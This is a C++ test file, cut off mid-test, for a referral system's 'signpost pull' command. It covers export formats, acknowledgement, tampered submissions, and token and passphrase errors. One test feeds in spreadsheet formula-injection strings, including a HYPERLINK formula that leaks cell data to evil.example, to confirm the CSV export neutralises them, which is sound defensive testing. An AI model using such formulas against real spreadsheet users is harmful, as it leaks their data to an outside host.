// `signpost pull` and `signpost devices` end to end: a real signpost-server process on a random
// loopback port, kiosks simulated in the test (enrolled over HTTP, pushing real referrals sealed
// to the coordinator key and signed with their device keys), and the real `signpost` binary.
// Tampering is done the way an attacker with the server's disk would: in its SQLite database.
#include <catch2/catch.hpp>

#include <signal.h>

#include <chrono>
#include <map>
#include <nlohmann/json.hpp>
#include <optional>
#include <random>
#include <regex>
#include <set>
#include <thread>

#include "core/common/ids.h"
#include "core/common/time_util.h"
#include "core/referral/reference_code.h"
#include "core/referral/referral_codec.h"
#include "core/referral/sealing.h"
#include "core/storage/database.h"
#include "support/csv_reader.h"
#include "support/process.h"
#include "support/server_process.h"
#include "support/test_support.h"
#include "sync/net/http_client.h"
#include "sync/protocol/submission_signing.h"
#include "sync/protocol/wire.h"
#include "sync/tool/pull_directory.h"
#include "sync/tool/pull_ledger.h"

using namespace signpost;
using namespace std::chrono_literals;
using nlohmann::json;

namespace {

constexpr const char* kPassphrase = "pull test passphrase, long enough";

struct CliResult {
    test::ExitStatus status;
    std::string out;
    std::string err;
};

struct Kiosk {
    std::string name;
    std::string id;
    std::string token;
    protocol::DeviceSigningKey key = protocol::DeviceSigningKey::generate();
    std::int64_t nextSeq = 1;
};

// What a resident typed (defaults: an ordinary Polish-speaking resident).
struct ReferralSpec {
    bool test = false;
    std::string name = "Zofia Wójcik";
    std::string phone = "0161 496 0123";
    std::string email = "zofia@example.org";
    std::string needsText = "Czuję się samotna; I feel lonely since moving here.";
    std::string accessNeeds = "Step-free access, please";
    std::string serviceName = "Chatty Café";
};

struct Pushed {
    std::string id;
    std::string reference;
    bool test = false;
};

// A CSV file as header → value maps (RFC 4180, BOM stripped).
std::vector<std::map<std::string, std::string>> readCsvRecords(const std::string& raw) {
    const std::vector<std::vector<std::string>> rows = test::parseCsv(raw);
    REQUIRE_FALSE(rows.empty());
    std::vector<std::map<std::string, std::string>> records;
    for (std::size_t r = 1; r < rows.size(); ++r) {
        REQUIRE(rows[r].size() == rows[0].size());
        std::map<std::string, std::string> record;
        for (std::size_t c = 0; c < rows[0].size(); ++c) {
            record[rows[0][c]] = rows[r][c];
        }
        records.push_back(std::move(record));
    }
    return records;
}

// Records of any output file, keyed the CSV way ("ID", "Name", ...) for CSV, or by JSON key.
std::vector<std::map<std::string, std::string>> readRecords(const std::filesystem::path& file) {
    const std::string text = test::readText(file);
    const std::string extension = file.extension().string();
    if (extension == ".csv") {
        return readCsvRecords(text);
    }
    const auto flatten = [](const json& object) {
        std::map<std::string, std::string> record;
        for (const auto& [key, value] : object.items()) {
            record[key] = value.is_string() ? value.get<std::string>() : value.dump();
        }
        return record;
    };
    std::vector<std::map<std::string, std::string>> records;
    if (extension == ".json") {
        const json array = json::parse(text);
        REQUIRE(array.is_array());
        for (const json& object : array) {
            records.push_back(flatten(object));
        }
    } else {
        REQUIRE(extension == ".ndjson");
        std::size_t start = 0;
        while (start < text.size()) {
            const std::size_t end = text.find('\n', start);
            REQUIRE(end != std::string::npos);  // every line ends with \n
            records.push_back(flatten(json::parse(text.substr(start, end - start))));
            start = end + 1;
        }
    }
    return records;
}

std::string idOf(const std::map<std::string, std::string>& record) {
    const auto csv = record.find("ID");
    return csv != record.end() ? csv->second : record.at("id");
}

struct DirContents {
    std::vector<std::filesystem::path> referrals;
    std::vector<std::filesystem::path> errors;
    std::vector<std::string> others;  // anything else but the state and lock files
};

DirContents listOutput(const std::filesystem::path& dir) {
    DirContents contents;
    if (!std::filesystem::exists(dir)) {
        return contents;
    }
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
        const std::string name = entry.path().filename().string();
        const auto parsed = tool::parseOutputFileName(name);
        if (parsed && parsed->errors) {
            contents.errors.push_back(entry.path());
        } else if (parsed) {
            contents.referrals.push_back(entry.path());
        } else if (name != tool::kPullStateFileName && name != tool::kPullLockFileName &&
                   name != tool::kPullLedgerFileName) {
            contents.others.push_back(name);
        }
    }
    std::sort(contents.referrals.begin(), contents.referrals.end());
    std::sort(contents.errors.begin(), contents.errors.end());
    return contents;
}

// Every id in every referrals file of `dir`, counted.
std::map<std::string, int> writtenIds(const std::filesystem::path& dir) {
    std::map<std::string, int> ids;
    for (const auto& file : listOutput(dir).referrals) {
        for (const auto& record : readRecords(file)) {
            ++ids[idOf(record)];
        }
    }
    return ids;
}

std::map<std::string, int> erroredIds(const std::filesystem::path& dir) {
    std::map<std::string, int> ids;
    for (const auto& file : listOutput(dir).errors) {
        for (const auto& record : readCsvRecords(test::readText(file))) {
            ++ids[record.at("ID")];
        }
    }
    return ids;
}

// A signpost-server process with its config and data in a temp dir, kiosks, and the coordinator
// side: a key file (Argon2id "interactive", to keep tests quick) and a token file.
class PullWorld {
public:
    PullWorld()
        : m_dir("pull"),
          m_server(m_dir.path(), "threads = 8\n", "enroll_burst = 1000\nbad_token_burst = 1000\n") {
        startServer();
        m_coordinatorKey.emplace(CoordinatorKeyPair::generate());
        m_coordinatorKey->saveEncrypted(keyFile(), kPassphrase, KdfStrength::Interactive);
        test::writePrivateText(
            tokenFile(), admin({"coordinator-token", "create", "--name", "coordinators"}) + "\n");
    }

    const std::filesystem::path& dir() const { return m_dir.path(); }
    std::filesystem::path configFile() const { return m_server.configFile(); }
    std::filesystem::path keyFile() const { return m_dir / "coordinator.key"; }
    std::filesystem::path tokenFile() const { return m_dir / "coordinator.token"; }
    std::filesystem::path databaseFile() const { return m_server.databaseFile(); }
    std::filesystem::path outDir(const std::string& name = "out") const { return m_dir / name; }
    const std::string& url() const { return m_server.url(); }
    const CoordinatorPublicKey& publicKey() const { return m_coordinatorKey->publicKey(); }

    // signpost-server (support/server_process.h), on a new port each time (a server that moved).
    void startServer() { m_server.startOnAnyPort(); }
    void stopServer() { m_server.stop(); }

    // `signpost-server admin ARGS --config F`; throws on failure, returns stdout trimmed.
    std::string admin(std::vector<std::string> args) { return m_server.admin(std::move(args)); }

    Kiosk enroll(const std::string& name) {
        Kiosk kiosk;
        kiosk.name = name;
        protocol::EnrollRequest request;
        request.enrollmentCode = admin({"enrollment-code", "--venue", "Harpurhey Library"});
        request.deviceName = name;
        request.venue = "Harpurhey Library";
        HttpRequest ask;
        ask.url = url() + "/v1/devices/enroll/nonce";
        auto asked = m_http.send(ask);
        REQUIRE(asked);
        request.nonce = protocol::parseEnrollNonce(asked.value().body).nonce;
        kiosk.key.sign(request);
        const HttpResponse response = post("/v1/devices/enroll", "", protocol::toJson(request));
        INFO(response.body);
        REQUIRE(response.status == 201);
        const auto enrolled = protocol::parseEnrollResponse(response.body);
        kiosk.id = enrolled.deviceId;
        kiosk.token = enrolled.deviceToken;
        return kiosk;
    }

    HttpResponse post(const std::string& path, const std::string& token, const std::string& body) {
        HttpRequest request;
        request.method = "POST";
        request.url = url() + path;
        if (!token.empty()) {
            request.headers.emplace_back("Authorization", "Bearer " + token);
        }
        request.headers.emplace_back("Content-Type", "application/json");
        request.body = body;
        auto result = m_http.send(request);
        INFO((result ? std::string() : result.error().message));
        REQUIRE(result);
        return std::move(result).value();
    }

    // A real referral: serialised by the kiosk's codec, sealed to the coordinator key, signed.
    protocol::Submission referral(Kiosk& kiosk, const ReferralSpec& spec, Pushed* pushed = nullptr,
                                  const CoordinatorPublicKey* sealTo = nullptr) {
        ReferralForm form;
        form.kind = ReferralKind::Service;
        form.serviceId = "svc-0001";
        form.serviceName = spec.serviceName;
        form.needCodes = {"feeling-lonely", "food"};
        form.needsText.assign(spec.needsText);
        form.name.assign(spec.name);
        form.phone.assign(spec.phone);
        form.email.assign(spec.email);
        form.bestTime = ContactTime::Morning;
        form.safeToLeaveMessage = Answer::Yes;
        form.preferredLanguage = "pl";
        form.interpreterNeeded = true;
        form.accessNeeds.assign(spec.accessNeeds);
        form.consentGiven = true;
        ReferralEnvelope envelope;
        envelope.id = uuidV4();
        envelope.reference = makeReferenceCode("MCR");
        envelope.createdAt = formatIsoUtc(std::chrono::system_clock::now());
        envelope.formVersion = "2026.11";
        envelope.consentVersion = "2026-11";
        envelope.venue = "Harpurhey Library";
        envelope.neighbourhood = "Harpurhey";
        envelope.deviceId = kiosk.id;
        envelope.test = spec.test;
        const SecureBytes plaintext = serialiseReferral(form, envelope);
        if (pushed != nullptr) {
            *pushed = {envelope.id, envelope.reference, spec.test};
        }
        return sealed(kiosk, envelope.id, view(plaintext), spec.test, sealTo);
    }

    // Any payload, sealed and signed like a referral (for items that open but are not one).
    protocol::Submission sealed(Kiosk& kiosk, const std::string& id, std::string_view payload,
                                bool isTest = false, const CoordinatorPublicKey* sealTo = nullptr) {
        protocol::Submission s;
        s.id = id;
        s.seq = kiosk.nextSeq++;
        s.createdAt = formatIsoUtc(std::chrono::system_clock::now());
        s.formVersion = "2026.11";
        s.venue = "Harpurhey Library";
        s.neighbourhood = "Harpurhey";
        s.serviceId = "svc-0001";
        s.test = isTest;
        const auto* bytes = reinterpret_cast<const std::uint8_t*>(payload.data());
        s.sealed =
            sealForCoordinators({bytes, payload.size()}, sealTo != nullptr ? *sealTo : publicKey());
        kiosk.key.sign(s);
        return s;
    }

    void push(const Kiosk& kiosk, const std::vector<protocol::Submission>& items) {
        for (std::size_t start = 0; start < items.size(); start += protocol::kMaxBatchItems) {
            protocol::SubmissionBatch batch;
            const std::size_t end = std::min(items.size(), start + protocol::kMaxBatchItems);
            batch.submissions.assign(items.begin() + static_cast<std::ptrdiff_t>(start),
                                     items.begin() + static_cast<std::ptrdiff_t>(end));
            const HttpResponse response =
                post("/v1/submissions", kiosk.token, protocol::toJson(batch));
            INFO(response.body);
            REQUIRE(response.status == 200);
            for (const auto& result : protocol::parseSubmissionResults(response.body).results) {
                REQUIRE(result.status == protocol::ItemStatus::Stored);
            }
        }
    }

    // Pushes `count` ordinary referrals from `kiosk`; returns them.
    std::vector<Pushed> pushReferrals(Kiosk& kiosk, int count, const ReferralSpec& spec = {}) {
        std::vector<protocol::Submission> items;
        std::vector<Pushed> pushed(static_cast<std::size_t>(count));
        for (int i = 0; i < count; ++i) {
            items.push_back(referral(kiosk, spec, &pushed[static_cast<std::size_t>(i)]));
        }
        push(kiosk, items);
        return pushed;
    }

    std::vector<std::string> pullArgs(const std::filesystem::path& out, const std::string& format,
                                      const std::vector<std::string>& extra = {}) const {
        std::vector<std::string> args = {
            "pull",  "--server",         url(),   "--token-file", tokenFile().string(),
            "--key", keyFile().string(), "--out", out.string(),   "--format",
            format};
        args.insert(args.end(), extra.begin(), extra.end());
        return args;
    }

    test::ProcessOptions signpostOptions(const std::vector<std::string>& args,
                                         std::map<std::string, std::string> env = {}) {
        test::ProcessOptions options;
        options.program = test::builtProgram("signpost");
        options.args = args;
        options.unsetEnv = {"SIGNPOST_PASSPHRASE", "SIGNPOST_PULL_TEST_KILL_AT"};
        if (!env.contains("SIGNPOST_PASSPHRASE")) {
            env["SIGNPOST_PASSPHRASE"] = kPassphrase;
        }
        options.env = std::move(env);
        const std::string tag = std::to_string(m_runs++);
        options.stdoutFile = m_dir / ("signpost-" + tag + ".out");
        options.stderrFile = m_dir / ("signpost-" + tag + ".err");
        return options;
    }

    CliResult signpost(const std::vector<std::string>& args,
                       std::map<std::string, std::string> env = {}) {
        const test::ProcessOptions options = signpostOptions(args, std::move(env));
        CliResult result;
        result.status = test::runProcess(options, 300s);
        result.out = test::readText(options.stdoutFile);
        result.err = test::readText(options.stderrFile);
        return result;
    }

    CliResult pull(const std::filesystem::path& out, const std::string& format = "csv",
                   const std::vector<std::string>& extra = {},
                   std::map<std::string, std::string> env = {}) {
        return signpost(pullArgs(out, format, extra), std::move(env));
    }

    // id → acknowledged?, straight from the server's database.
    std::map<std::string, bool> ackState() {
        Database db(databaseFile().string());
        Statement rows = db.prepare("SELECT id, acked_at IS NOT NULL FROM submissions");
        std::map<std::string, bool> state;
        while (rows.step()) {
            state[rows.columnText(0)] = rows.columnInt(1) != 0;
        }
        return state;
    }

    // Changes one column of one stored submission, as an attacker with the server's disk could.
    void tamper(const std::string& id, const char* column) {
        Database db(databaseFile().string());
        Statement read =
            db.prepare(std::string("SELECT ") + column + " FROM submissions WHERE id = ?");
        read.bind(1, id);
        REQUIRE(read.step());
        std::vector<std::uint8_t> bytes = read.columnBlob(0);
        REQUIRE(bytes.size() > 40);
        bytes[bytes.size() / 2] ^= 0x5a;
        Statement write =
            db.prepare(std::string("UPDATE submissions SET ") + column + " = ? WHERE id = ?");
        write.bindBlob(1, bytes).bind(2, id);
        write.run();
        REQUIRE(db.changes() == 1);
    }

private:
    test::TempDir m_dir;
    test::ServerProcess m_server;
    std::optional<CoordinatorKeyPair> m_coordinatorKey;
    HttpClient m_http;
    int m_runs = 0;
};

std::string trimmed(std::string text) {
    while (!text.empty() && (text.back() == '\n' || text.back() == ' ')) {
        text.pop_back();
    }
    return text;
}

std::size_t lineCount(const std::string& text) {
    return static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n'));
}

// The acknowledgement state of `ids`: all true, or all false.
void requireAcked(PullWorld& world, const std::vector<std::string>& ids, bool acked) {
    const auto state = world.ackState();
    for (const std::string& id : ids) {
        INFO(id);
        REQUIRE(state.contains(id));
        CHECK(state.at(id) == acked);
    }
}

std::vector<std::string> idsOf(const std::vector<Pushed>& pushed) {
    std::vector<std::string> ids;
    for (const Pushed& p : pushed) {
        ids.push_back(p.id);
    }
    return ids;
}

}  // namespace

TEST_CASE("pull writes new referrals once per run, in each format, then acknowledges them",
          "[pull]") {
    const std::string format = GENERATE(as<std::string>{}, "csv", "json", "ndjson");
    INFO("format " << format);
    PullWorld world;
    Kiosk harpurhey = world.enroll("Harpurhey kiosk");
    Kiosk gorton = world.enroll("Gorton kiosk");
    std::vector<Pushed> pushed = world.pushReferrals(harpurhey, 2);
    ReferralSpec testSpec;
    testSpec.test = true;
    testSpec.name = "Staff Test";
    const auto testOne = world.pushReferrals(gorton, 1, testSpec);
    pushed.insert(pushed.end(), testOne.begin(), testOne.end());
    const auto out = world.outDir();

    const CliResult first = world.pull(out, format);
    INFO(first.err);
    REQUIRE(first.status.exitedWith(0));
    DirContents contents = listOutput(out);
    REQUIRE(contents.referrals.size() == 1);
    CHECK(contents.errors.empty());
    CHECK(contents.others.empty());
    const auto file = contents.referrals[0];
    CHECK(trimmed(first.out) == file.string());
    CHECK(file.filename().string().ends_with("." + format));
    const auto range = tool::parseOutputFileName(file.filename().string());
    REQUIRE(range);
    CHECK(range->from >= 1);
    CHECK(range->to >= range->from + 2);
    CHECK(first.err.find("Pulled 3 new referrals (1 marked as test)") != std::string::npos);

    CHECK(test::fileMode(file) == 0600);
    CHECK(test::fileMode(out) == 0700);

    const auto records = readRecords(file);
    REQUIRE(records.size() == 3);
    const bool csv = format == "csv";
    const auto field = [&](const std::map<std::string, std::string>& record, const char* csvName,
                           const char* jsonName) { return record.at(csv ? csvName : jsonName); };
    for (std::size_t i = 0; i < records.size(); ++i) {
        const auto& record = records[i];
        INFO("record " << i);
        CHECK(idOf(record) == pushed[i].id);  // in server (cursor) order
        CHECK(field(record, "Reference", "reference") == pushed[i].reference);
        CHECK(field(record, "Venue", "venue") == "Harpurhey Library");
        CHECK(field(record, "Neighbourhood", "neighbourhood") == "Harpurhey");
        CHECK(field(record, "Service", "service_name") == "Chatty Café");
        CHECK(field(record, "Phone", "phone") == "0161 496 0123");
        CHECK(field(record, "Notes", "notes") ==
              "Czuję się samotna; I feel lonely since moving here.");
        CHECK(field(record, "Consent version", "consent_version") == "2026-11");
        CHECK_FALSE(field(record, "Received at", "received_at").empty());
        CHECK(field(record, "Device", "device_name") ==
              (i < 2 ? "Harpurhey kiosk" : "Gorton kiosk"));
        CHECK(field(record, "Device ID", "device_id") == (i < 2 ? harpurhey.id : gorton.id));
        CHECK(field(record, "Test", "test") ==
              (csv ? (i == 2 ? "yes" : "no") : (i == 2 ? "true" : "false")));
    }
    CHECK(field(records[0], "Name", "name") == "Zofia Wójcik");
    CHECK(field(records[2], "Name", "name") == "Staff Test");
    if (csv) {
        const std::string raw = test::readText(file);
        CHECK(raw.rfind("\xEF\xBB\xBFReference,Received at,Venue,", 0) == 0);
        CHECK(records[0].at("Needs") == "feeling-lonely; food");
        CHECK(records[0].at("Interpreter") == "yes");
        CHECK(records[0].at("Safe to leave a message") == "yes");
        CHECK(records[0].at("Best time") == "morning");
    }
    requireAcked(world, idsOf(pushed), true);

    // Run again: nothing new, nothing written.
    const CliResult second = world.pull(out, format);
    INFO(second.err);
    REQUIRE(second.status.exitedWith(0));
    CHECK(second.out.empty());
    CHECK(second.err.find("No new referrals.") != std::string::npos);
    CHECK(listOutput(out).referrals == contents.referrals);

    // New items come in the next file, and only there.
    const auto later = world.pushReferrals(gorton, 2);
    const CliResult third = world.pull(out, format);
    INFO(third.err);
    REQUIRE(third.status.exitedWith(0));
    contents = listOutput(out);
    REQUIRE(contents.referrals.size() == 2);
    const auto next = tool::parseOutputFileName(contents.referrals[1].filename().string());
    REQUIRE(next);
    CHECK(next->from > range->to);
    CHECK(trimmed(third.out) == contents.referrals[1].string());
    const auto newRecords = readRecords(contents.referrals[1]);
    REQUIRE(newRecords.size() == 2);
    CHECK(idOf(newRecords[0]) == later[0].id);
    CHECK(idOf(newRecords[1]) == later[1].id);
    CHECK(readRecords(contents.referrals[0]).size() == 3);  // the old file is untouched
    requireAcked(world, idsOf(later), true);
}

TEST_CASE("with --skip-tests, test referrals are left out but still acknowledged", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    ReferralSpec testSpec;
    testSpec.test = true;
    const auto real = world.pushReferrals(kiosk, 2);
    const auto tests = world.pushReferrals(kiosk, 2, testSpec);

    const CliResult run = world.pull(world.outDir(), "csv", {"--skip-tests", "--threads", "1"});
    INFO(run.err);
    REQUIRE(run.status.exitedWith(0));
    CHECK(run.err.find("Pulled 2 new referrals") != std::string::npos);
    CHECK(run.err.find("skipped 2 test referrals") != std::string::npos);
    const auto ids = writtenIds(world.outDir());
    CHECK(ids == std::map<std::string, int>{{real[0].id, 1}, {real[1].id, 1}});
    requireAcked(world, idsOf(real), true);
    requireAcked(world, idsOf(tests), true);

    SECTION("a run with only test referrals writes no file but moves on") {
        const auto more = world.pushReferrals(kiosk, 1, testSpec);
        const CliResult onlyTests = world.pull(world.outDir(), "csv", {"--skip-tests"});
        INFO(onlyTests.err);
        REQUIRE(onlyTests.status.exitedWith(0));
        CHECK(onlyTests.out.empty());
        CHECK(listOutput(world.outDir()).referrals.size() == 1);
        requireAcked(world, idsOf(more), true);
        CHECK(world.pull(world.outDir(), "csv", {"--skip-tests"}).err.find("No new referrals.") !=
              std::string::npos);
    }
}

TEST_CASE("CSV output is RFC 4180 quoted and safe from formula injection", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    ReferralSpec hostile;
    hostile.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    hostile.phone = "";
    hostile.email = "-x@example.org";
    hostile.needsText = "+SUM(1,2)\nsecond line, with \"quotes\"\r\nthird";
    hostile.accessNeeds = "@cmd";
    hostile.serviceName = "\tTabbed service";
    Pushed pushed;
    world.push(kiosk, {world.referral(kiosk, hostile, &pushed)});

    const CliResult run = world.pull(world.outDir(), "csv");
    INFO(run.err);
    REQUIRE(run.status.exitedWith(0));
    const auto file = listOutput(world.outDir()).referrals.at(0);
    const std::string raw = test::readText(file);
    CHECK(raw.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",") !=
          std::string::npos);
    CHECK(raw.find(",\"'-x@example.org\",") != std::string::npos);
    CHECK(raw.find("\"'+SUM(1,2)\nsecond line, with \"\"quotes\"\"\r\nthird\"") !=
          std::string::npos);
    CHECK(raw.find(",\"'@cmd\",") != std::string::npos);
    CHECK(raw.find(",\"'\tTabbed service\",") != std::string::npos);
    // No cell of the file starts with a formula character, quoted or not.
    const auto records = readCsvRecords(raw);
    REQUIRE(records.size() == 1);
    for (const auto& [column, value] : records[0]) {
        INFO(column << " = " << value);
        CHECK((value.empty() || std::string("=+-@\t\r").find(value[0]) == std::string::npos));
    }
    CHECK(records[0].at("Name") == "'" + hostile.name);
    CHECK(records[0].at("Notes") == "'" + hostile.needsText);
    CHECK(records[0].at("Phone").empty());

    SECTION("JSON keeps the text exactly as typed") {
        Pushed again;
        world.push(kiosk, {world.referral(kiosk, hostile, &again)});
        REQUIRE(world.pull(world.outDir("json-out"), "json").status.exitedWith(0));
        const auto jsonFile = listOutput(world.outDir("json-out")).referrals.at(0);
        const auto objects = readRecords(jsonFile);
        REQUIRE(objects.size() == 2);
        CHECK(objects[1].at("name") == hostile.name);
        CHECK(objects[1].at("notes") == hostile.needsText);
    }
}

TEST_CASE("unreadable items go to the errors file, are not acknowledged, and exit 3", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    std::vector<Pushed> good(2);
    Pushed alteredSealed;
    Pushed badSignature;
    std::vector<protocol::Submission> items;
    items.push_back(world.referral(kiosk, {}, &good[0]));
    items.push_back(world.referral(kiosk, {}, &alteredSealed));
    items.push_back(world.referral(kiosk, {}, &badSignature));
    const CoordinatorKeyPair otherKey = CoordinatorKeyPair::generate();
    Pushed otherKeyItem;
    items.push_back(world.referral(kiosk, {}, &otherKeyItem, &otherKey.publicKey()));
    const std::string notReferralId = uuidV4();
    items.push_back(world.sealed(kiosk, notReferralId, R"({"hello":"world"})"));
    // A real referral whose sealed id differs from the envelope's (a blob moved to another item).
    Pushed moved;
    const protocol::Submission original = world.referral(kiosk, {}, &moved);
    (void)original;
    const std::string movedId = uuidV4();
    {
        ReferralForm form;
        form.kind = ReferralKind::General;
        form.name.assign("Moved Blob");
        form.email.assign("moved@example.org");
        form.consentGiven = true;
        ReferralEnvelope envelope;
        envelope.id = uuidV4();  // not movedId
        envelope.reference = makeReferenceCode("MCR");
        envelope.createdAt = "2026-11-23T14:03:07Z";
        envelope.consentVersion = "2026-11";
        const SecureBytes plaintext = serialiseReferral(form, envelope);
        items.push_back(world.sealed(kiosk, movedId, view(plaintext)));
    }
    items.push_back(world.referral(kiosk, {}, &good[1]));
    world.push(kiosk, items);
    world.tamper(alteredSealed.id, "sealed");
    world.tamper(badSignature.id, "signature");

    const CliResult run = world.pull(world.outDir(), "csv");
    INFO(run.err);
    REQUIRE(run.status.exitedWith(3));
    const DirContents contents = listOutput(world.outDir());
    REQUIRE(contents.referrals.size() == 1);
    REQUIRE(contents.errors.size() == 1);
    CHECK(contents.errors[0].filename().string() ==
          contents.referrals[0].filename().replace_extension("").string() + ".errors.csv");
    CHECK(run.out == contents.referrals[0].string() + "\n" + contents.errors[0].string() + "\n");
    CHECK(writtenIds(world.outDir()) ==
          std::map<std::string, int>{{good[0].id, 1}, {good[1].id, 1}});

    std::map<std::string, std::string> reasons;
    for (const auto& record : readCsvRecords(test::readText(contents.errors[0]))) {
        reasons[record.at("ID")] = record.at("Reason code");
        CHECK(record.at("Device") == "Harpurhey kiosk");
        CHECK(record.at("Device ID") == kiosk.id);
        CHECK(record.at("Venue") == "Harpurhey Library");
        CHECK_FALSE(record.at("Received at").empty());
        CHECK_FALSE(record.at("Reason").empty());
        CHECK(std::stoll(record.at("Cursor")) > 0);
    }
    CHECK(reasons == std::map<std::string, std::string>{{alteredSealed.id, "bad_signature"},
                                                        {badSignature.id, "bad_signature"},
                                                        {otherKeyItem.id, "not_sealed_to_this_key"},
                                                        {notReferralId, "not_a_referral"},
                                                        {movedId, "id_mismatch"}});
    CHECK(run.err.find("Pulled 2 new referrals") != std::string::npos);
    CHECK(run.err.find("5 items could not be read and were not acknowledged") != std::string::npos);
    CHECK(run.err.find("2 bad_signature") != std::string::npos);
    // The summary names no resident data.
    CHECK(run.err.find("Zofia") == std::string::npos);
    CHECK(run.err.find("Moved Blob") == std::string::npos);

    requireAcked(world, idsOf(good), true);
    requireAcked(
        world, {alteredSealed.id, badSignature.id, otherKeyItem.id, notReferralId, movedId}, false);

    // They are reported once, not again on every run; the next run is clean.
    const CliResult again = world.pull(world.outDir(), "csv");
    INFO(again.err);
    REQUIRE(again.status.exitedWith(0));
    CHECK(again.err.find("No new referrals.") != std::string::npos);
    CHECK(listOutput(world.outDir()).errors.size() == 1);

    SECTION("a run where nothing is readable writes only the errors file") {
        Pushed lone;
        world.push(kiosk, {world.referral(kiosk, {}, &lone, &otherKey.publicKey())});
        const CliResult onlyErrors = world.pull(world.outDir(), "csv");
        INFO(onlyErrors.err);
        REQUIRE(onlyErrors.status.exitedWith(3));
        const DirContents after = listOutput(world.outDir());
        CHECK(after.referrals.size() == 1);
        REQUIRE(after.errors.size() == 2);
        CHECK(erroredIds(world.outDir()).at(lone.id) == 1);
        CHECK(trimmed(onlyErrors.out) == after.errors[1].string());
        CHECK(world.pull(world.outDir(), "csv").status.exitedWith(0));
        CHECK(listOutput(world.outDir()).errors.size() == 2);
        requireAcked(world, {lone.id}, false);
    }
}

TEST_CASE("a wrong passphrase is one line and exit 1 before anything is fetched", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    const auto pushed = world.pushReferrals(kiosk, 2);

    const CliResult run =
        world.pull(world.outDir(), "csv", {}, {{"SIGNPOST_PASSPHRASE", "not the passphrase"}});
    REQUIRE(run.status.exitedWith(1));
    CHECK(trimmed(run.err) == "signpost pull: wrong passphrase for " + world.keyFile().string() +
                                  "; nothing was fetched");
    CHECK(run.out.empty());
    CHECK_FALSE(std::filesystem::exists(world.outDir()));
    requireAcked(world, idsOf(pushed), false);

    SECTION("from a passphrase file too") {
        test::writePrivateText(world.dir() / "pass.txt", "also wrong\n");
        const CliResult fromFile = world.pull(
            world.outDir(), "csv", {"--passphrase-file", (world.dir() / "pass.txt").string()});
        REQUIRE(fromFile.status.exitedWith(1));
        CHECK(fromFile.err.find("wrong passphrase") != std::string::npos);
        test::writePrivateText(world.dir() / "pass.txt", std::string(kPassphrase) + "\n");
        // The file wins over the (wrong) environment variable.
        const CliResult right = world.pull(
            world.outDir(), "csv", {"--passphrase-file", (world.dir() / "pass.txt").string()},
            {{"SIGNPOST_PASSPHRASE", "wrong"}});
        INFO(right.err);
        CHECK(right.status.exitedWith(0));
        requireAcked(world, idsOf(pushed), true);
    }
}

TEST_CASE("token problems are one clear line: revoked, unknown, a device token", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    const auto pushed = world.pushReferrals(kiosk, 1);

    SECTION("revoked coordinator token → 401") {
        world.admin({"coordinator-token", "revoke", "coordinators"});
        const CliResult run = world.pull(world.outDir(), "csv");
        REQUIRE(run.status.exitedWith(1));
        CHECK(lineCount(run.err) == 1);
        CHECK(run.err.find("the server refused the token in " + world.tokenFile().string()) !=
              std::string::npos);
        CHECK(run.err.find("401") != std::string::npos);
        CHECK(run.err.find("revoked") != std::string::npos);
        const CliResult devices = world.signpost(
            {"devices", "--server", world.url(), "--token-file", world.tokenFile().string()});
        CHECK(devices.status.exitedWith(1));
        CHECK(devices.err.find("401") != std::string::npos);
    }
    SECTION("an unknown token → 401") {
        test::writePrivateText(world.dir() / "other.token",
                               "bm90LWEtcmVhbC10b2tlbi1hdC1hbGwtbm9wZS1ub3Bl\n");
        auto args = world.pullArgs(world.outDir(), "csv");
        args[4] = (world.dir() / "other.token").string();
        const CliResult unknown = world.signpost(args);
        REQUIRE(unknown.status.exitedWith(1));
        CHECK(unknown.err.find("401") != std::string::npos);
        CHECK(unknown.err.find("wrong or has been revoked") != std::string::npos);
    }
    SECTION("a kiosk's device token by mistake → 403") {
        test::writePrivateText(world.dir() / "device.token", kiosk.token + "\n");
        auto args = world.pullArgs(world.outDir(), "csv");
        args[4] = (world.dir() / "device.token").string();
        const CliResult run = world.signpost(args);
        REQUIRE(run.status.exitedWith(1));
        CHECK(lineCount(run.err) == 1);
        CHECK(run.err.find("is not a coordinator token (403") != std::string::npos);
    }
    SECTION("an empty or missing token file") {
        test::writePrivateText(world.dir() / "empty.token", "  \n");
        auto args = world.pullArgs(world.outDir(), "csv");
        args[4] = (world.dir() / "empty.token").string();
        CliResult run = world.signpost(args);
        REQUIRE(run.status.exitedWith(1));
        CHECK(run.err.find("is empty") != std::string::npos);
        args[4] = (world.dir() / "missing.token").string();
        run = world.signpost(args);
        REQUIRE(run.status.exitedWith(1));
        CHECK(run.err.find("cannot read the token file") != std::string::npos);
    }
    SECTION("a token file others can read works, with a warning") {
        std::filesystem::permissions(world.tokenFile(), std::filesystem::perms::others_read,
                                     std::filesystem::perm_options::add);
        const CliResult run = world.pull(world.outDir(), "csv");
        REQUIRE(run.status.exitedWith(0));
        CHECK(run.err.find("warning: other users can read the token file") != std::string::npos);
    }
    // Whatever went wrong, nothing was acked unless it was written.
    const auto written = writtenIds(world.outDir());
    for (const auto& [id, acked] : world.ackState()) {
        CHECK(acked == written.contains(id));
    }
    (void)pushed;
}

TEST_CASE("server down, TLS failure and a wrong address are one clear line each", "[pull]") {
    PullWorld world;
    Kiosk kiosk = world.enroll("Harpurhey kiosk");
    world.pushReferrals(kiosk, 1);

    SECTION("TLS spoken to a plain HTTP server") {
        auto args = world.pullArgs(world.outDir(), "csv");
        args[2] = "https://" + world.url().substr(std::string("http://").size());
        const CliResult run = world.signpost(args);
        REQUIRE(run.status.exitedWith(1));
        CHECK(lineCount(run.err) == 1);
        CHECK(run.err.find("TLS failed with " + args[2]) != std::string::npos);
        CHECK(run.err.find("(curl: tls)") != std::string::npos);
        CHECK(run.err.find("--ca-file") != std::string::npos);
    }
    SECTION("not a Signpost server") {
        auto args = world.pullArgs(world.outDir(), "csv");
        args[2] = world.url() + "/some/prefix";
        const CliResult run = world.signpost(args);
        REQUIRE(run.status.exitedWith(1));
